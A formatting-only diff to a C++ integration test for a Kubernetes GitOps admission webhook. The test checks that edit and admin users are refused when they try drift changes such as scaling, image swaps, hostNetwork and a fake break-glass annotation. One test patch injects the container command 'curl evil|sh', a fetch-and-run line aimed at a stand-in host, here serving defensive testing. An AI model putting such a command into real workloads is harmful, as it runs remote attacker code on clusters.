@@ -35,9 +35,9 @@ json binding(const std::string& name, const std::string& role, const std::string
           {"metadata", {{"name", name}}},
           {"roleRef",
            {{"apiGroup", "rbac.authorization.k8s.io"}, {"kind", "ClusterRole"}, {"name", role}}},
-          {"subjects", json::array({{{"apiGroup", "rbac.authorization.k8s.io"},
-                                     {"kind", kind},
-                                     {"name", subject}}})}};
+          {"subjects",
+           json::array(
+               {{{"apiGroup", "rbac.authorization.k8s.io"}, {"kind", kind}, {"name", subject}}})}};
 }
 
 // The cluster-wide pieces: Releases and Pipelines aggregated into the
@@ -55,8 +55,8 @@ struct ClusterPieces {
              {"rbac.authorization.k8s.io/aggregate-to-admin", "true"}}}}},
          {"rules", json::array({{{"apiGroups", json::array({"cairn.dev"})},
                                  {"resources", json::array({"pipelines", "releases"})},
-                                 {"verbs", json::array({"get", "list", "watch", "create",
-                                                        "update", "patch", "delete"})}}})}});
+                                 {"verbs", json::array({"get", "list", "watch", "create", "update",
+                                                        "patch", "delete"})}}})}});
     (void)client().create(kClusterRoleBindings, "",
                           {{"apiVersion", "rbac.authorization.k8s.io/v1"},
                            {"kind", "ClusterRoleBinding"},
@@ -88,9 +88,9 @@ struct Closed {
   explicit Closed(const std::string& prefix, const std::string& release_extra = "")
       : ns(prefix, {{"cairn.dev/enforce", "deny"}}),
         repo("closed-" + ns.name()),
-        a(repo.commit({{"deploy/app.yaml", web_app_yaml("web:1", true)},
-                       {"deploy/extra.yaml", kExtra}},
-                      "A: web")),
+        a(repo.commit(
+            {{"deploy/app.yaml", web_app_yaml("web:1", true)}, {"deploy/extra.yaml", kExtra}},
+            "A: web")),
         hook({"--platform-group", "cairn:platform"}) {
     ensure_operator_identity();
     // Who may do what is RBAC's (bound before the webhook governs them).
@@ -172,8 +172,7 @@ spec:
 )")
                 .first,
             0);
-  std::string b =
-      c.repo.commit({{"deploy/app.yaml", web_app_yaml("web:2", true)}}, "B: web 2");
+  std::string b = c.repo.commit({{"deploy/app.yaml", web_app_yaml("web:2", true)}}, "B: web 2");
   ASSERT_TRUE(wait_release(ns, b, "Deployed", 90s, "app")) << c.where();
   auto rs_list = client().list(kReplicaSets, ns);
   ASSERT_TRUE(rs_list && !(*rs_list)["items"].empty());
@@ -197,13 +196,16 @@ spec:
       {"another image", "set image deployment/web web=evil:1", "", "containers[0].image"},
       {"kubectl scale", "scale deployment web --replicas=0", "", "spec.replicas"},
       // fields git does not set: container, pod, object, metadata
-      {"a command", patch("deployment", "web",
-                          R"([{"op":"add","path":"/spec/template/spec/containers/0/command","value":["sh","-c","curl evil|sh"]}])"),
+      {"a command",
+       patch(
+           "deployment", "web",
+           R"([{"op":"add","path":"/spec/template/spec/containers/0/command","value":["sh","-c","curl evil|sh"]}])"),
        "", "containers[0].command"},
       {"an env var", "set env deployment/web EXTRA=1", "", "containers[0].env"},
       {"an initContainer",
-       patch("deployment", "web",
-             R"([{"op":"add","path":"/spec/template/spec/initContainers","value":[{"name":"i","image":"x"}]}])"),
+       patch(
+           "deployment", "web",
+           R"([{"op":"add","path":"/spec/template/spec/initContainers","value":[{"name":"i","image":"x"}]}])"),
        "", "initContainers"},
       {"hostNetwork",
        patch("deployment", "web",
@@ -224,8 +226,9 @@ spec:
        "data.extra was added"},
       // the garbage collector cannot be borrowed
       {"an ownerReference to a missing owner",
-       patch("configmap", "web-config",
-             R"([{"op":"add","path":"/metadata/ownerReferences","value":[{"apiVersion":"v1","kind":"ConfigMap","name":"gone","uid":"4f1c1b52-0000-4000-8000-000000000000"}]}])"),
+       patch(
+           "configmap", "web-config",
+           R"([{"op":"add","path":"/metadata/ownerReferences","value":[{"apiVersion":"v1","kind":"ConfigMap","name":"gone","uid":"4f1c1b52-0000-4000-8000-000000000000"}]}])"),
        "", "metadata.ownerReferences"},
       // fake break-glass
       {"the break-glass annotation", "annotate deployment web cairn.dev/break-glass=INC-1", "",
@@ -242,8 +245,9 @@ spec:
       {"an HPA that pins replicas", "autoscale deployment web --min=1 --max=1", "",
        "was never in git"},
       {"a new image in a ReplicaSet",
-       patch("replicaset", rs,
-             R"([{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"evil:1"}])"),
+       patch(
+           "replicaset", rs,
+           R"([{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"evil:1"}])"),
        "", "managed by Kubernetes' controllers", false},
       // delete
       {"a delete", "delete configmap web-config", "", "can only be deleted through git"},
@@ -263,20 +267,21 @@ spec:
       // exec
       {"exec", "exec " + pod + " -- true", "", "exec into pod", false},
   };
-  for (const auto& [who, kubeconfig] : {std::pair{"alice (edit)", c.alice},
-                                        std::pair{"adam (admin)", c.adam}}) {
+  for (const auto& [who, kubeconfig] :
+       {std::pair{"alice (edit)", c.alice}, std::pair{"adam (admin)", c.adam}}) {
     for (const auto& at : attempts)
       expect_refused(c, c.as(kubeconfig, at.args, at.stdin_text), who, at.name, at.expect,
                      at.names_repository);
   }
   // admin may create RoleBindings by RBAC; not here.
-  expect_refused(c,
-                 c.as(c.adam, "create rolebinding me --clusterrole=admin --user=eve"),
+  expect_refused(c, c.as(c.adam, "create rolebinding me --clusterrole=admin --user=eve"),
                  "adam (admin)", "a RoleBinding", "was never in git");
 
   // The operational handles stay open.
-  EXPECT_EQ(c.as(c.alice, "patch release app --type=merge -p '{\"spec\":{\"suspend\":true}}'").first, 0);
-  EXPECT_EQ(c.as(c.alice, "patch release app --type=merge -p '{\"spec\":{\"suspend\":false}}'").first, 0);
+  EXPECT_EQ(
+      c.as(c.alice, "patch release app --type=merge -p '{\"spec\":{\"suspend\":true}}'").first, 0);
+  EXPECT_EQ(
+      c.as(c.alice, "patch release app --type=merge -p '{\"spec\":{\"suspend\":false}}'").first, 0);
   EXPECT_EQ(c.as(c.alice, "annotate pipeline ci cairn.dev/requested-at=now").first, 0);
 
   // Nothing of it reached the cluster.
